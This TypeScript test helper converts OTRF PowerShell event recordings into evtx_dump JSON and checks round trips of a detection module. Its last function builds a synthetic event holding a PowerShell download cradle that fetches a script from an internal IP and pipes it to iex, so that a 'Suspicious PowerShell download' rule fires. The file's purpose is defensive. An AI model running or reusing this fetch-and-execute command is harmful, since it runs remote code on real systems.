/**
 * PowerShell events of the OTRF recordings in their evtx_dump form, for the PowerShell module tests: 4103 (module
 * logging) as recorded (its EventData is named), and the classic Windows PowerShell 400, 403, 600 and 800, whose
 * NXLog lines carry no EventData (NXLog drops unnamed values) but keep the rendered Message, from which the three
 * values are cut here by the message templates (a test-side reading, independent of src/events/formats/ecs).
 */
import type { CanonicalEvent } from '../../src/events/canonical-event.js';
import { encodePowerShellModule, type PowerShellModuleOptions } from '../../src/events/encode/ecs-powershell.js';
import { readRecord } from '../../src/events/read-record.js';
import { otrfFiles, readOtrfObjects } from '../helpers/otrf.js';

const encoder = new TextEncoder();

/** The three values of a classic event from its message; undefined when the message is not of that template. */
export function classicValues(eventId: number, message: string): [string, string, string] | undefined {
  const flags = 's';
  const patterns: Record<number, RegExp> = {
    400: /^Engine state is changed from (.*?) to (.*?)\. \r\n\r\nDetails: \r\n(.*)$/,
    403: /^Engine state is changed from (.*?) to (.*?)\. \r\n\r\nDetails: \r\n(.*)$/,
    600: /^Provider "(.*?)" is (.*?)\. \r\n\r\nDetails: \r\n(.*)$/,
    800: /^Pipeline execution details for command line: (.*?)\. \r\n\r\nContext Information: \r\n(.*?) \r\n\r\nDetails: \r\n(.*)$/,
  };
  const pattern = patterns[eventId];
  if (pattern === undefined) return undefined;
  const match = new RegExp(pattern.source, flags).exec(message);
  if (match === null) return undefined;
  const [, a, b, c] = match as unknown as [string, string, string, string];
  // 400/403 name the new state second in the message (%2 ... %1); 600 and 800 in order (as Winlogbeat 6's
  // param1..3 of the same events in the empire recording show).
  return eventId === 400 || eventId === 403 ? [b, a, c] : [a, b, c];
}

/** The evtx_dump JSON of a record, from its System fields and EventData (named pairs, or a list of unnamed values). */
function evtxJson(
  system: { provider: string; channel: string; eventId: number; time: string; recordId: unknown; host: unknown },
  eventData: Record<string, string> | string[],
): string {
  return JSON.stringify({
    Event: {
      System: {
        Provider: { '#attributes': { Name: system.provider } },
        EventID: { '#attributes': { Qualifiers: 0 }, '#text': system.eventId },
        TimeCreated: { '#attributes': { SystemTime: new Date(system.time).toISOString() } },
        EventRecordID: Number(system.recordId),
        Channel: system.channel,
        Computer: system.host,
      },
      EventData: Array.isArray(eventData)
        ? { Data: { '#text': eventData } }
        : { Data: Object.entries(eventData).map(([name, value]) => ({ '@Name': name, '#text': value })) },
    },
  });
}

const CLASSIC_IDS = [400, 403, 600, 800];

/**
 * A recording line (NXLog or Winlogbeat 6) of a 4103 or classic event as evtx_dump JSON; undefined for others.
 * NXLog classic lines have only the message (the values are cut from it); Winlogbeat 6 sends param1..3 and leaves
 * out empty ones (''); 4103's UserData, which the shippers leave out when empty, is ''.
 */
export function asEvtxJson(object: Record<string, unknown>): string | undefined {
  const nxlog = object.Channel !== undefined;
  const channel = nxlog ? object.Channel : object.log_name;
  const eventId = Number(nxlog ? object.EventID : object.event_id);
  const system = {
    channel: String(channel),
    eventId,
    time: String(object['@timestamp']),
    recordId: nxlog ? object.RecordNumber : object.record_number,
    host: nxlog ? object.Hostname : object.computer_name,
  };
  const fields = (nxlog ? object : (object.event_data ?? {})) as Record<string, unknown>;
  if (channel === 'Microsoft-Windows-PowerShell/Operational' && eventId === 4103) {
    if (typeof fields.ContextInfo !== 'string') return undefined;
    const data = {
      ContextInfo: fields.ContextInfo,
      UserData: typeof fields.UserData === 'string' ? fields.UserData : '',
      Payload: typeof fields.Payload === 'string' ? fields.Payload : '',
    };
    return evtxJson({ ...system, provider: 'Microsoft-Windows-PowerShell' }, data);
  }
  if (channel !== 'Windows PowerShell' || !CLASSIC_IDS.includes(eventId)) return undefined;
  let values: string[] | undefined;
  if (nxlog) values = typeof object.Message === 'string' ? classicValues(eventId, object.Message) : undefined;
  else values = [1, 2, 3].map((n) => (typeof fields[`param${n}`] === 'string' ? (fields[`param${n}`] as string) : ''));
  return values === undefined ? undefined : evtxJson({ ...system, provider: 'PowerShell' }, values);
}

/** The OTRF PowerShell 4103 and classic 400/403/600/800 events, read from their evtx_dump form; at most perId per ID. */
export function otrfPowerShellEvents(perId = Number.POSITIVE_INFINITY, files = otrfFiles()): CanonicalEvent[] {
  const events: CanonicalEvent[] = [];
  const counts = new Map<number, number>();
  for (const file of files) {
    for (const object of readOtrfObjects(file)) {
      const text = asEvtxJson(object);
      if (text === undefined) continue;
      for (const outcome of readRecord(encoder.encode(text))) {
        if (outcome.kind !== 'event' || (counts.get(outcome.event.eventId) ?? 0) >= perId) continue;
        events.push(outcome.event);
        counts.set(outcome.event.eventId, (counts.get(outcome.event.eventId) ?? 0) + 1);
      }
    }
  }
  return events;
}

/**
 * Each event through the module emulation and back: the differences from the original (fields: exactly with the
 * message, up to whitespace without it; alerts: exactly), and how many alerts the originals raise.
 */
export function moduleDifferences(
  events: readonly CanonicalEvent[],
  options: PowerShellModuleOptions,
  match: (event: CanonicalEvent) => string[],
  read: (bytes: Uint8Array) => ReturnType<typeof readRecord>,
): { differences: string[]; alerts: number } {
  const differences: string[] = [];
  let alerts = 0;
  const squeeze = (data: Record<string, string>) =>
    JSON.stringify(Object.fromEntries(Object.entries(data).map(([k, v]) => [k, v.replace(/\s+/g, '')])));
  for (const original of events) {
    const [outcome] = read(encoder.encode(encodePowerShellModule(original, options)));
    const where = `${original.eventId} #${original.recordId}`;
    if (outcome?.kind !== 'event') {
      differences.push(`${where}: ${outcome?.kind}`);
      continue;
    }
    const got = outcome.event;
    const same = options.withoutMessage
      ? squeeze(got.data) === squeeze(original.data)
      : JSON.stringify(got.data) === JSON.stringify(original.data);
    if (!same) differences.push(`${where}: fields differ`);
    const { data: _a, format: _b, ...gotHeader } = got;
    const { data: _c, format: _d, ...originalHeader } = original;
    if (JSON.stringify(gotHeader) !== JSON.stringify(originalHeader)) differences.push(`${where}: header differs`);
    const expected = match(original);
    alerts += expected.length;
    const found = match(got);
    if (found.join() !== expected.join()) differences.push(`${where}: expected ${expected}; got ${found}`);
  }
  return { differences, alerts };
}

/**
 * One 4103 in evtx_dump form, written here, that the corpus's "Suspicious PowerShell download" module rule
 * (ContextInfo with System.Net.WebClient and .DownloadString() fires on, so a fast comparison is not between
 * empty alert lists (the small recording's 4103s raise none).
 */
export function handWritten4103(): CanonicalEvent {
  const application =
    "powershell.exe -nop -c (New-Object System.Net.WebClient).DownloadString('http://10.0.0.5/a.ps1') | iex";
  const context = [
    'Severity = Informational',
    'Host Name = ConsoleHost',
    'Host Version = 5.1.19041.1',
    'Host ID = 1b4e2f3a-5c6d-4e7f-8a9b-0c1d2e3f4a5b',
    `Host Application = ${application}`,
    'Engine Version = 5.1.19041.1',
    'Runspace ID = 2c5f3a4b-6d7e-4f8a-9b0c-1d2e3f4a5b6c',
    'Pipeline ID = 1',
    'Command Name = New-Object',
    'Command Type = Cmdlet',
    'Script Name = ',
    'Command Path = ',
    'Sequence Number = 7',
    'User = CONTOSO\\alice',
    'Connected User = ',
    'Shell ID = Microsoft.PowerShell',
  ]
    .map((line) => `        ${line}\r\n`)
    .join('');
  const payload =
    'CommandInvocation(New-Object): "New-Object"\r\nParameterBinding(New-Object): name="TypeName"; value="System.Net.WebClient"\r\n';
  const text = evtxJson(
    {
      provider: 'Microsoft-Windows-PowerShell',
      channel: 'Microsoft-Windows-PowerShell/Operational',
      eventId: 4103,
      time: '2024-03-01T10:00:00.000Z',
      recordId: 77,
      host: 'WKS1.contoso.local',
    },
    { ContextInfo: context, UserData: '', Payload: payload },
  );
  const [outcome] = readRecord(encoder.encode(text));
  if (outcome?.kind !== 'event') throw new Error('hand-written 4103 not read');
  return outcome.event;
}
